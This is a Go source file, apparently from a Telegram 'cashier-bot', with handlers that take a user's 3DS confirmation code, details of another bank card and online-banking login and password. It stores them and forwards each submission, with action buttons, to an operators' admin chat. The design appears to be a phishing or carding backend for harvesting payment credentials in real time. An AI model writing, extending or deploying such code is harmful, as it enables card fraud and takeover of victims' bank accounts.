package review

import (
	"context"
	"strings"
	"time"

	"github.com/admin/tg-bots/cashier-bot/internal/domain"
	"github.com/admin/tg-bots/cashier-bot/internal/ports/repository"
	"github.com/admin/tg-bots/cashier-bot/internal/services/notifier"
	"github.com/google/uuid"
)

// Submit3DSCode пользователь прислал код 3DS
// Валидация, переход и сохранение кода выполняются одним юнитом
func (s *Service) Submit3DSCode(ctx context.Context, userID, paymentID uuid.UUID, code string) (*domain.Payment, error) {
	payment, err := s.getOwned(ctx, userID, paymentID)
	if err != nil {
		return nil, err
	}

	if err := validate3DSCode(code); err != nil {
		return nil, err
	}
	if err := s.checkAttempts(payment); err != nil {
		return nil, err
	}

	return s.applySubmit(ctx, payment, domain.ActionSubmit3DS, repository.TransitionUpdate{
		ThreeDSCode: &code,
	}, domain.Notify3DSSubmitted, notifier.ThreeDSSubmittedText)
}

// SubmitNewCard пользователь прислал реквизиты другой карты
func (s *Service) SubmitNewCard(ctx context.Context, userID, paymentID uuid.UUID, card domain.CardDetails) (*domain.Payment, error) {
	payment, err := s.getOwned(ctx, userID, paymentID)
	if err != nil {
		return nil, err
	}

	if err := validateCard(card); err != nil {
		return nil, err
	}
	if err := s.checkAttempts(payment); err != nil {
		return nil, err
	}

	card.Number = strings.ReplaceAll(strings.ReplaceAll(card.Number, " ", ""), "-", "")

	return s.applySubmit(ctx, payment, domain.ActionSubmitNewCard, repository.TransitionUpdate{
		Card: &card,
	}, domain.NotifyNewCardSubmitted, notifier.NewCardSubmittedText)
}

// SubmitBankCredentials пользователь прислал данные входа в интернет-банк
func (s *Service) SubmitBankCredentials(ctx context.Context, userID, paymentID uuid.UUID, creds domain.BankCredentials) (*domain.Payment, error) {
	payment, err := s.getOwned(ctx, userID, paymentID)
	if err != nil {
		return nil, err
	}

	if err := validateBankCredentials(creds); err != nil {
		return nil, err
	}
	if err := s.checkAttempts(payment); err != nil {
		return nil, err
	}

	return s.applySubmit(ctx, payment, domain.ActionSubmitBankCredentials, repository.TransitionUpdate{
		Bank: &creds,
	}, domain.NotifyBankCredentialsSubmitted, notifier.BankCredentialsSubmittedText)
}

// applySubmit общий путь пользовательских сабмитов: переход + полезная нагрузка + уведомление операторам
func (s *Service) applySubmit(
	ctx context.Context,
	payment *domain.Payment,
	action domain.PaymentAction,
	payload repository.TransitionUpdate,
	kind domain.NotificationKind,
	text func(*domain.Payment) string,
) (*domain.Payment, error) {
	next, ok := domain.NextStatus(payment.Status, action)
	if !ok {
		s.Log.Debug("submit rejected",
			"payment_id", payment.ID,
			"action", action,
			"status", payment.Status,
		)
		return nil, &domain.InvalidTransitionError{
			PaymentID: payment.ID,
			Action:    action,
			Current:   payment.Status,
		}
	}

	actor := domain.ActorUser(payment.UserID)
	payload.PaymentID = payment.ID
	payload.Action = action
	payload.From = payment.Status
	payload.To = next
	payload.Step = &domain.PaymentStep{
		ID:          uuid.New(),
		PaymentID:   payment.ID,
		StepType:    domain.StepTypeForStatus(next),
		Status:      next,
		Description: describeAction(action, next),
		Actor:       actor,
		Details: domain.StepDetails{
			"action":  string(action),
			"from":    string(payment.Status),
			"attempt": payment.AttemptsCount + 1,
		},
		CreatedAt: time.Now(),
	}

	if err := s.PaymentRepo.ApplyTransition(ctx, payload); err != nil {
		return nil, err
	}

	updated, err := s.PaymentRepo.GetByID(ctx, payment.ID)
	if err != nil {
		return nil, err
	}

	s.publishEvent(ctx, updated, action, payment.Status, next, actor)

	s.Notifier.Notify(domain.Notification{
		ChatID:    s.AdminChatID,
		PaymentID: updated.ID,
		Kind:      kind,
		Text:      text(updated),
		Keyboard:  notifier.BuildAdminActionKeyboard(updated.ID),
	})

	return updated, nil
}

// getOwned возвращает платёж, если он принадлежит пользователю
// Чужие платежи неотличимы от несуществующих
func (s *Service) getOwned(ctx context.Context, userID, paymentID uuid.UUID) (*domain.Payment, error) {
	payment, err := s.PaymentRepo.GetByID(ctx, paymentID)
	if err != nil {
		return nil, err
	}
	if payment.UserID != userID {
		return nil, domain.ErrPaymentNotFound
	}
	return payment, nil
}

func (s *Service) checkAttempts(payment *domain.Payment) error {
	if payment.AttemptsCount >= payment.MaxAttempts {
		return &domain.ValidationError{Field: "attempts", Reason: "attempts limit reached"}
	}
	return nil
}
